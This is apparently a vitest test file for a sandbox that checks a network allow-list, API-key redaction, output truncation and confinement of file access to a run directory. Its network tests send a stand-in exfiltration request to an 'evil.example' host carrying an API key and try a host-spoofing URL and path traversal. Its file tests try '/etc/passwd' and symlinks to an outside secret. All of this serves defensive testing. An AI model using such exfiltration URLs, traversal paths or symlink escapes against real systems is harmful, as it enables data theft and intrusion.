import { mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  answerRequest,
  handlerNetwork,
  isAllowed,
  redactUrl,
} from '../src/sandbox/network/network.js';
import { NodePyodideSandbox } from '../src/sandbox/pyodide-child/pyodide-child-sandbox.js';
import { OutputAssembler, StreamLimiter } from '../src/sandbox/kernel/outputs.js';
import { changedFiles, RunDir } from '../src/sandbox/files/run-dir.js';

describe('network policy', () => {
  it('removes the apikey query parameter whatever its case', () => {
    expect(redactUrl('http://h/rest/v1/t?select=*&apikey=SECRET&limit=2')).toBe(
      'http://h/rest/v1/t?select=*&limit=2',
    );
    expect(redactUrl('http://h/x?APIKEY=SECRET')).not.toContain('SECRET');
    expect(redactUrl('not a url?apikey=SECRET&a=1')).not.toContain('SECRET');
  });

  it('matches prefixes on parsed URLs, not raw strings', () => {
    const allow = ['http://127.0.0.1:5000/rest/v1'];
    expect(isAllowed('http://127.0.0.1:5000/rest/v1/posthog_events?limit=1', allow)).toBe(true);
    expect(isAllowed('http://127.0.0.1:5000/rest/v1', allow)).toBe(true);
    expect(isAllowed('http://127.0.0.1:5000/rest/v10/x', allow)).toBe(false);
    expect(isAllowed('http://127.0.0.1:50001/rest/v1/x', allow)).toBe(false);
    expect(isAllowed('http://127.0.0.1:5000.evil.com/rest/v1/x', allow)).toBe(false);
    expect(isAllowed('http://127.0.0.1:5000/rest/v1/../../admin', allow)).toBe(false);
    expect(isAllowed('garbage', allow)).toBe(false);
  });

  it('refuses a blocked host with 403 naming it, without calling the handler', async () => {
    let called = 0;
    const handler = async () => {
      called += 1;
      return { status: 200, headers: {}, body: 'x' };
    };
    const { response, record } = await answerRequest(
      { method: 'get', url: 'http://evil.example:8080/steal?apikey=K', headers: {} },
      ['http://data.local/rest/v1/'],
      handler,
    );
    expect(called).toBe(0);
    expect(response.status).toBe(403);
    expect(String(response.body)).toContain('evil.example:8080');
    expect(record).toMatchObject({
      method: 'GET',
      url: 'http://evil.example:8080/steal',
      status: 403,
      allowed: false,
    });
  });

  it('refuses a malformed allow-list entry before starting anything', () => {
    expect(
      () => new NodePyodideSandbox({ network: handlerNetwork(['data.local/rest'], undefined) }),
    ).toThrow('allowedUrlPrefixes: data.local/rest is not a URL');
  });

  it('turns a failing handler into a recorded 502', async () => {
    const { response, record } = await answerRequest(
      { method: 'GET', url: 'http://data.local/rest/v1/t', headers: {} },
      ['http://data.local/rest/v1/'],
      async () => {
        throw new Error('database down');
      },
    );
    expect(response.status).toBe(502);
    expect(record.error).toBe('database down');
  });
});

describe('output limits', () => {
  it('keeps the first bytes up to the limit across both streams and counts the rest', () => {
    const limiter = new StreamLimiter(10);
    expect(limiter.accept('stdout', new Uint8Array(6)).length).toBe(6);
    expect(limiter.accept('stderr', new Uint8Array(6)).length).toBe(4);
    expect(limiter.accept('stdout', new Uint8Array(100)).length).toBe(0);
    expect(limiter.dropped).toEqual({ stdout: 100, stderr: 2 });
  });

  it('merges consecutive stream chunks and marks the truncated stream', () => {
    const a = new OutputAssembler();
    a.stream('stdout', 'a');
    a.stream('stdout', 'b');
    a.stream('stderr', 'warn');
    a.add({ output_type: 'display_data', data: { 'text/plain': 'x' }, metadata: {} });
    a.stream('stdout', 'c');
    a.markTruncated({ stdout: 42, stderr: 0 });
    expect(a.outputs()).toEqual([
      { output_type: 'stream', name: 'stdout', text: 'ab' },
      { output_type: 'stream', name: 'stderr', text: 'warn' },
      { output_type: 'display_data', data: { 'text/plain': 'x' }, metadata: {} },
      { output_type: 'stream', name: 'stdout', text: 'c\n… [truncated 42 bytes]\n' },
    ]);
  });
});

describe('run directory access', () => {
  const root = mkdtempSync(join(tmpdir(), 'localds-rundir-test-'));
  const outside = mkdtempSync(join(tmpdir(), 'localds-outside-'));
  writeFileSync(join(outside, 'secret.txt'), 'secret');
  symlinkSync(join(outside, 'secret.txt'), join(root, 'link.txt'));
  symlinkSync(outside, join(root, 'linkdir'));
  const dir = new RunDir(root);

  it('writes, lists and reads regular files in nested folders', async () => {
    await dir.write('out/summary.json', new TextEncoder().encode('{}'));
    const files = await dir.list();
    expect(files.map((f) => [f.name, f.size])).toEqual([['out/summary.json', 2]]);
    expect(new TextDecoder().decode(await dir.read('out/summary.json'))).toBe('{}');
  });

  it('refuses paths that leave the directory, including through symlinks', async () => {
    await expect(dir.read('../x')).rejects.toThrow(/relative to the run directory/);
    await expect(dir.read('/etc/passwd')).rejects.toThrow(/relative to the run directory/);
    await expect(dir.read('link.txt')).rejects.toThrow(/not a regular file inside/);
    await expect(dir.read('linkdir/secret.txt')).rejects.toThrow(/not a regular file inside/);
    await expect(dir.write('linkdir/new.txt', new Uint8Array(1))).rejects.toThrow(/outside/);
    await expect(dir.write('link.txt', new Uint8Array(1))).rejects.toThrow(/not a regular file/);
  });

  it('reports new and changed files only', () => {
    const before = [
      { name: 'a', size: 1, mtimeMs: 1 },
      { name: 'b', size: 1, mtimeMs: 1 },
    ];
    const after = [
      { name: 'a', size: 1, mtimeMs: 1 },
      { name: 'b', size: 2, mtimeMs: 2 },
      { name: 'c', size: 3, mtimeMs: 3 },
    ];
    expect(changedFiles(before, after)).toEqual([
      { name: 'b', size: 2 },
      { name: 'c', size: 3 },
    ]);
  });
});
